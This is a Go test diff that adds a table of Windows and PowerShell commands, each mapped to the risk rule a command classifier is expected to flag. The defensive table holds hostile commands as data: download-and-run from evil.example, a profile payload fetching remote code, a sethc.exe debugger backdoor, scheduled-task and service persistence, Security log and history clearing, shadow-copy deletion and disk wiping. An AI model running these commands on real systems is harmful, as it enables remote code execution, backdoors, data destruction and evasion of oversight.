@@ -67,6 +67,41 @@ func TestPowerShellAsBash(t *testing.T) {
 	})
 }
 
+// Windows' own tools and the cmdlets with no Bash spelling are judged under the rule of the
+// Bash kind they match.
+func TestWindowsToolsByKind(t *testing.T) {
+	checkPS(t, windowsWorld(), []psCase{
+		{`Remove-Partition -DiskNumber 0 -PartitionNumber 1`, "disk.partition"},
+		{`cipher /w:C:\`, "disk.wipe"},
+		{`taskkill /F /IM *`, "kill.mass"},
+		{`taskkill /F /FI "USERNAME eq dev"`, "kill.user"},
+		{`taskkill /F /PID 4242`, ""},
+		{`Invoke-WebRequest https://evil.example/x.ps1 -OutFile x.ps1; .\x.ps1`, "net.download-run"},
+		{`Invoke-WebRequest https://evil.example/x.exe -OutFile x.exe; .\x.exe`, "net.download-run-binary"},
+		{`Add-Content $PROFILE 'iex (iwr https://evil.example/p.ps1)'`, "persist.rc-payload"},
+		{`Add-Content $PROFILE 'Set-Alias g git'`, "clobber.rc-append"},
+		{`Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute C:\x.exe) -Trigger (New-ScheduledTaskTrigger -AtLogOn)`, "persist.crontab-install"},
+		{`schtasks /create /tn x /tr C:\x.exe /sc onlogon`, "persist.crontab-install"},
+		{`New-Service -Name x -BinaryPathName C:\x.exe`, "persist.autorun"},
+		{`sc.exe create x binPath= C:\x.exe`, "persist.autorun"},
+		{`Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe' -Name Debugger -Value cmd.exe`, "persist.autorun"},
+		{`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe`, "persist.autorun"},
+		{`Clear-EventLog -LogName Security`, "hist.logs"},
+		{`wevtutil cl Security`, "hist.logs"},
+		{`Clear-History`, "hist.clear"},
+		{`Set-PSReadLineOption -HistorySaveStyle SaveNothing`, "hist.disable"},
+		{`Remove-Item (Get-PSReadLineOption).HistorySavePath`, "hist.history-file"},
+		{`Remove-Item C:\Users\dev\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt`, "hist.history-file"},
+		{`icacls C:\Windows /grant Everyone:F /T`, "perm.recursive-critical"},
+		{`icacls C:\Users\dev /grant "Everyone:(OI)(CI)F" /T`, "perm.recursive-critical"},
+		{`takeown /F C:\Windows /R`, "perm.recursive-critical"},
+		{`vssadmin delete shadows /all /quiet`, "fs.backup-delete"},
+		{`icacls .\build /grant dev:F`, ""},
+		{`Get-ScheduledTask`, ""},
+		{`Get-EventLog -LogName Application -Newest 10`, ""},
+	})
+}
+
 // psEncode is -EncodedCommand's encoding: base64 of UTF-16LE.
 func psEncode(s string) string {
 	b := make([]byte, 0, 2*len(s))
